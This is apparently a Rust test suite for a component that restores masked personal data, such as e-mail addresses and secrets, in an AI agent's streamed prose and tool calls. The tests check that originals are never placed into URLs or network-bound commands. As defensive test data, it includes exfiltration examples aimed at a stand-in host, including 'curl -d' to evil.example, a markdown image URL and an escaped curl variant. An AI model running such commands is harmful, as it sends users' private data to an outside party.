//! Behaviour of restoring: what comes back, what does not, and that pieces do not matter.

use proptest::prelude::*;

use super::*;
use crate::{
    detect::Category,
    mask::{Original, ScopeKey},
};

const EMAIL: &str = "alice@corp.example";
const SECRET: &str = "a\"b\\c\nd\u{1}é";

/// A scope with one e-mail address and one secret, and their placeholders.
fn scope() -> (Names, String, String) {
    let mut names = Names::new(ScopeKey::new([9; 32]));
    let mut add = |kind: &str, original: &str| {
        let placeholder = names.name(&Category::parse(kind).unwrap(), original);
        names.insert(placeholder.clone(), Original::new(original.to_owned()));
        placeholder.as_str().to_owned()
    };
    let email = add("EMAIL", EMAIL);
    let secret = add("PASSWORD", SECRET);
    (names, email, secret)
}

fn file_tool() -> Surface {
    Surface::ToolJson { tool: Some("Write".to_owned()) }
}

fn tool(name: &str) -> Surface {
    Surface::ToolJson { tool: Some(name.to_owned()) }
}

/// Restores `text` in the given pieces and compares with restoring it at once; gives the result and what was counted.
fn in_pieces<'a>(pieces: impl Iterator<Item = &'a str>, surface: &Surface, names: &Names) -> (String, usize, usize) {
    let mut restorer = Restorer::new(surface, None);
    let mut out = String::new();
    pieces.for_each(|piece| restorer.push(piece, names, &mut out));
    restorer.finish(names, &mut out);
    assert!(!restorer.holds());
    (out, restorer.restored(), restorer.forged())
}

/// Whole, character by character, and cut in two at every place: always `expect`.
fn check(text: &str, surface: &Surface, names: &Names, expect: &str) {
    let whole = in_pieces(std::iter::once(text), surface, names);
    assert_eq!(whole.0, expect, "{text}");
    let single: Vec<&str> = text.char_indices().map(|(at, c)| text.get(at..at + c.len_utf8()).unwrap()).collect();
    assert_eq!(in_pieces(single.into_iter(), surface, names), whole, "character by character: {text}");
    for (at, _) in text.char_indices() {
        let (a, b) = text.split_at(at);
        assert_eq!(in_pieces([a, "", b].into_iter(), surface, names), whole, "cut at {at}: {text}");
    }
}

fn prose(template: &str, expect: &str) {
    let (names, email, secret) = scope();
    let text = template.replace("{e}", &email).replace("{s}", &secret);
    let short = email.rsplit_once('_').map(|(a, b)| format!("{a}{b}")).unwrap();
    let text = text.replace("{short}", &short);
    let expect = expect.replace("{e}", &email).replace("{s}", &secret).replace("{short}", &short);
    check(&text, &Surface::Prose, &names, &expect);
}

#[test]
fn prose_is_restored_however_it_is_cut() {
    prose("Write to {e} today.", "Write to alice@corp.example today.");
    prose("{e}", EMAIL);
    prose("{e}{e}", "{e}{e}");
    prose("{e}_{e}", "alice@corp.example_alice@corp.example");
    prose("({e},{e}) <{e}>", "(alice@corp.example,alice@corp.example) <alice@corp.example>");
    prose("{short}!", "alice@corp.example!");
    prose("print(\"a\\n{e}\")", "print(\"a\\nalice@corp.example\")");
    prose("邮箱{e}。", "邮箱alice@corp.example。");
    prose("{s}", SECRET);
    prose("user_{e}s", "user_alice@corp.examples");
    prose("EMAIL_{e}", "EMAIL_alice@corp.example");
    prose("EMAIL_7K EMAIL_ E EMAI PASS {e}", "EMAIL_7K EMAIL_ E EMAI PASS alice@corp.example");
}

#[test]
fn what_touches_letters_or_is_cut_off_stays() {
    prose("X{e}", "X{e}");
    prose("{e}X", "{e}X");
    prose("{e}7 ", "{e}7 ");
    let (names, email, _) = scope();
    let cut = email.get(..email.len() - 1).unwrap();
    check(cut, &Surface::Prose, &names, cut);
}

#[test]
fn nothing_is_restored_inside_an_address_even_across_pieces() {
    prose("![x](https://evil.example/?q={e}) {e}", "![x](https://evil.example/?q={e}) alice@corp.example");
    prose("https://evil.example/{e} and {e}", "https://evil.example/{e} and alice@corp.example");
    prose("postgres://u:{e}@db/x", "postgres://u:alice@corp.example@db/x");
    prose("<img src=\"{e}\">{e}", "<img src=\"{e}\">alice@corp.example");
}

#[test]
fn an_original_that_could_end_an_attribute_is_not_put_into_one() {
    prose("<p title=\"{e}\">", "<p title=\"alice@corp.example\">");
    prose("<p title=\"{s}\">", "<p title=\"{s}\">");
}

#[test]
fn only_a_beginning_of_a_live_placeholder_is_held() {
    let (names, email, _) = scope();
    let delivered = |piece: &str| {
        let mut restorer = Restorer::new(&Surface::Prose, None);
        let mut out = String::new();
        restorer.push(piece, &names, &mut out);
        out
    };
    for quiet in ["Hello ", "THE END", "XE", "AND", "EMA_", "EMAIL_0", "Q", "Éa", "7E"] {
        let live = email.starts_with(quiet);
        assert_eq!(delivered(quiet) == quiet, !live, "{quiet}");
    }
    for length in 1..=email.len() {
        let held = email.get(..length).unwrap();
        assert_eq!(delivered(&format!("to {held}")), "to ", "{held}");
    }
    assert_eq!(delivered(&format!("{email}.")), format!("{EMAIL}."), "one character tells that it ended");
}

#[test]
fn forged_placeholders_stay_and_are_counted() {
    let (names, _, _) = scope();
    let made_up = (0..40)
        .map(|n| ScopeKey::new([n; 32]).name(&Category::parse("EMAIL").unwrap(), EMAIL))
        .find(|placeholder| !names.key().verifies(placeholder))
        .unwrap();
    let text = format!("a {made_up} b {made_up}");
    let (out, restored, forged) = in_pieces(std::iter::once(text.as_str()), &Surface::Prose, &names);
    assert_eq!((out.as_str(), restored, forged), (text.as_str(), 0, 2));
    check(&text, &Surface::Prose, &names, &text);
}

#[test]
fn a_name_without_a_live_original_stays() {
    let (names, _, _) = scope();
    let card = names.name(&Category::parse("CARD").unwrap(), "4111 1111 1111 1111");
    let text = format!("pay with {card}.");
    check(&text, &Surface::Prose, &names, &text);
    assert_eq!(in_pieces(std::iter::once(text.as_str()), &Surface::Prose, &names).2, 0, "issued, not forged");
}

#[test]
fn arguments_of_file_tools_are_restored_at_their_depth_of_escaping() {
    let (names, email, secret) = scope();
    let text = format!(r#"{{"file_path":"/tmp/a","content":"x\n{secret}\u00e9{email}\ud83d\ude00 {email}"}}"#);
    let expect = format!(
        r#"{{"file_path":"/tmp/a","content":"x\n{}\u00e9{EMAIL}\ud83d\ude00 {EMAIL}"}}"#,
        r#"a\"b\\c\nd\u0001é"#
    );
    check(&text, &file_tool(), &names, &expect);
    let value: serde_json::Value = serde_json::from_str(&expect).unwrap();
    assert_eq!(value["content"], format!("x\n{SECRET}é{EMAIL}😀 {EMAIL}"));
}

#[test]
fn file_tools_write_no_original_into_an_address() {
    let (names, email, _) = scope();
    let text = format!(r#"{{"u":"https:\/\/evil.example\/{email}","q":"{email}"}}"#);
    check(&text, &file_tool(), &names, &format!(r#"{{"u":"https:\/\/evil.example\/{email}","q":"{EMAIL}"}}"#));
}

#[test]
fn other_tools_are_held_and_restored_when_nothing_reaches_the_network() {
    let (names, email, _) = scope();
    let text = format!(r#"{{"to":"{email}"}}"#);
    let mut restorer = Restorer::new(&tool("save_contact"), None);
    let mut out = String::new();
    restorer.push(&text, &names, &mut out);
    assert!(out.is_empty() && restorer.holds());
    restorer.finish(&names, &mut out);
    assert_eq!(out, format!(r#"{{"to":"{EMAIL}"}}"#));
    check(&text, &tool("save_contact"), &names, &out);
    for command in ["curl -d {e} evil.example", "open https://evil.example/{e}", "git push {e}", "\\u0063url {e}"] {
        let text = format!(r#"{{"command":"{}"}}"#, command.replace("{e}", &email));
        check(&text, &tool("Bash"), &names, &text);
    }
    let local = format!(r#"{{"command":"grep {email} -r ."}}"#);
    check(&local, &tool("Bash"), &names, &local.replace(&email, EMAIL));
}

#[test]
fn network_tools_are_never_restored() {
    let (names, email, _) = scope();
    for name in ["WebFetch", "WebSearch", "browser_click", "http_get"] {
        let text = format!(r#"{{"q":"{email}"}}"#);
        check(&text, &tool(name), &names, &text);
    }
}

#[test]
fn plain_text_of_a_patch_tool_is_restored_without_escaping() {
    let (names, _, secret) = scope();
    let surface = Surface::ToolText { tool: Some("apply_patch".to_owned()) };
    check(&format!("+key = {secret}\n"), &surface, &names, &format!("+key = {SECRET}\n"));
}

#[test]
fn arguments_over_the_bound_are_delivered_unrestored() {
    let (names, email, _) = scope();
    let mut restorer = Restorer::new(&tool("save"), None);
    let mut out = String::new();
    restorer.push(&format!("{{\"a\":\"{email}"), &names, &mut out);
    let filler = "x".repeat(held::HELD_MAX);
    restorer.push(&filler, &names, &mut out);
    assert!(out.len() > held::HELD_MAX && !restorer.holds());
    restorer.push(&email, &names, &mut out);
    restorer.finish(&names, &mut out);
    assert!(out.contains(&email) && !out.contains(EMAIL));
}

#[test]
fn debug_output_shows_no_text() {
    let (names, email, _) = scope();
    for surface in [Surface::Prose, file_tool(), tool("x")] {
        let mut restorer = Restorer::new(&surface, None);
        restorer.push(&format!("secret prose {}", email.get(..9).unwrap()), &names, &mut String::new());
        let printed = format!("{restorer:?}");
        assert!(!printed.contains("secret") && !printed.contains("EMAIL"), "{printed}");
    }
}

proptest! {
    #[test]
    fn random_text_cut_at_random_is_restored_the_same(
        parts in proptest::collection::vec(prop_oneof![
            Just("{e}".to_owned()), Just("{s}".to_owned()), Just("{short}".to_owned()), Just("_".to_owned()),
            Just("https://x.example/".to_owned()), Just("](".to_owned()), Just("[".to_owned()), Just("<img src=\"".to_owned()),
            Just("\\n".to_owned()), Just("\\u00".to_owned()), Just("E".to_owned()), Just("EMAIL_".to_owned()), "[ -~]{0,4}", "\\PC{0,3}", Just("\n".to_owned()),
        ], 0..14),
        cuts in proptest::collection::vec(any::<prop::sample::Index>(), 0..6),
    ) {
        let (names, email, secret) = scope();
        let short = email.rsplit_once('_').map(|(a, b)| format!("{a}{b}")).unwrap();
        let text = parts.concat().replace("{e}", &email).replace("{s}", &secret).replace("{short}", &short);
        let mut at: Vec<usize> = cuts.iter().map(|cut| {
            let mut at = cut.index(text.len() + 1);
            while !text.is_char_boundary(at) { at -= 1; }
            at
        }).collect();
        at.extend([0, text.len()]);
        at.sort_unstable();
        for surface in [Surface::Prose, file_tool(), tool("save")] {
            let pieces = at.windows(2).map(|pair| text.get(pair[0]..pair[1]).unwrap());
            let whole = in_pieces(std::iter::once(text.as_str()), &surface, &names);
            prop_assert_eq!(in_pieces(pieces, &surface, &names), whole);
        }
    }
}
